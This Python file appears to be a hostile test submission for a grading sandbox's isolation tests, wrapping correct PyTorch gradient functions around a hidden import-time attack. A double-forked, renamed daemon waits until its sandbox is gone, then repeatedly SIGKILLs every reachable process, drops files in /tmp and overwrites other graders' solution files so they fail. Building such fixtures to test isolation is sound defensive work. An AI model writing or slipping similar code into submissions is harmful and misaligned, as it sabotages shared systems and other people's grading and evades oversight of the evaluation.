# expect: simple_gradients=20 multivariate_gradients=20 no_grad=20 zeroing_gradients=20 gradient_checking=20
# expect-next: reference=100

"""Hostile: a daemon left behind (double fork + setsid at import) to poison the next submission.

The daemon names itself "hostile-daemon", closes its inherited descriptors and waits quietly while this
submission is graded (every function is correct). As soon as the student server it came from is gone - which
only a daemon that escaped the sandbox can observe - it attacks: SIGKILL to every process it can signal (the
next sandbox runs as the same uid), files dropped in /tmp, writes into every grader-sbx-* directory it can
find. Expected: 100 points, the daemon dies with the sandbox, and the reference graded right after still gets 100.
"""

import os
import signal
import time
import torch

def _attack():
    while True:
        try:
            os.kill(-1, signal.SIGKILL)
        except OSError:
            pass
        for root in ("/tmp", "/proc/1/root/tmp", "/var/tmp"):
            try:
                with open(os.path.join(root, "grader-poison"), "w") as handle:
                    handle.write("poisoned")
                for name in os.listdir(root):
                    if name.startswith("grader-"):
                        with open(os.path.join(root, name, "work", "solution.py"), "w") as handle:
                            handle.write("raise SystemExit(1)\n")
            except OSError:
                pass
        time.sleep(0.05)


def _daemon():
    server = os.getpid()
    if os.fork() != 0:
        return
    os.setsid()
    if os.fork() != 0:
        os._exit(0)
    try:
        import ctypes

        ctypes.CDLL(None).prctl(15, b"hostile-daemon", 0, 0, 0)  # PR_SET_NAME
    except (OSError, AttributeError):
        pass
    os.closerange(0, 1024)
    try:
        while True:
            try:
                os.kill(server, 0)  # inside the sandbox the server is alive until the sandbox ends
            except ProcessLookupError:
                _attack()
            except PermissionError:
                _attack()
            time.sleep(0.05)
    finally:
        os._exit(0)


_daemon()

def _fresh_leaf(x):
    """A new leaf that requires grad, holding x's value (the caller's tensor is untouched)."""
    if isinstance(x, torch.Tensor):
        return x.detach().clone().requires_grad_(True)
    return torch.tensor(float(x), dtype=torch.float32, requires_grad=True)


def _grad_of(leaf):
    return leaf.grad if leaf.grad is not None else torch.zeros_like(leaf)


def _autograd_gradient(f, x):
    leaf = _fresh_leaf(x)
    f(leaf).backward()
    return _grad_of(leaf)


def _central_differences(f, x, eps=1e-6):
    base = x.detach().clone(memory_format=torch.contiguous_format)
    estimate = torch.zeros_like(base)
    flat_estimate = estimate.view(-1)
    with torch.no_grad():
        for i in range(base.numel()):
            plus = base.clone()
            plus.view(-1)[i] += eps
            minus = base.clone()
            minus.view(-1)[i] -= eps
            flat_estimate[i] = (f(plus) - f(minus)) / (2 * eps)
    return estimate

def derivative(f, x):
    leaf = _fresh_leaf(x)
    f(leaf).backward()
    return _grad_of(leaf)

def partial_derivatives(f, *xs):
    leaves = [_fresh_leaf(x) for x in xs]
    f(*leaves).backward()
    return tuple(_grad_of(leaf) for leaf in leaves)

def gradient(f, x):
    return _autograd_gradient(f, x)

def vector_jacobian_product(f, x, v):
    leaf = _fresh_leaf(x)
    f(leaf).backward(v)
    return _grad_of(leaf)

def predict(model, x):
    with torch.no_grad():
        return model(x)

def sgd_step(params, lr):
    with torch.no_grad():
        for p in params:
            if p.grad is not None:
                p -= lr * p.grad

def accumulated_gradient(f, x, times):
    leaf = _fresh_leaf(x)
    for _ in range(times):
        f(leaf).backward()
    return _grad_of(leaf)

def zero_gradients(params):
    for p in params:
        if p.grad is not None:
            p.grad.zero_()

def fit_linear(xs, ys, steps, lr):
    w = torch.zeros((), dtype=xs.dtype, device=xs.device, requires_grad=True)
    b = torch.zeros((), dtype=xs.dtype, device=xs.device, requires_grad=True)
    for _ in range(steps):
        loss = ((w * xs + b - ys) ** 2).mean()
        for p in (w, b):
            if p.grad is not None:
                p.grad.zero_()
        loss.backward()
        with torch.no_grad():
            w -= lr * w.grad
            b -= lr * b.grad
    return w.item(), b.item()

def numerical_gradient(f, x, eps=1e-6):
    return _central_differences(f, x, eps)

def check_gradient(f, x, atol=1e-5, rtol=1e-3):
    by_autograd = _autograd_gradient(f, x)
    by_differences = _central_differences(f, x)
    return bool(torch.allclose(by_autograd, by_differences, atol=atol, rtol=rtol))
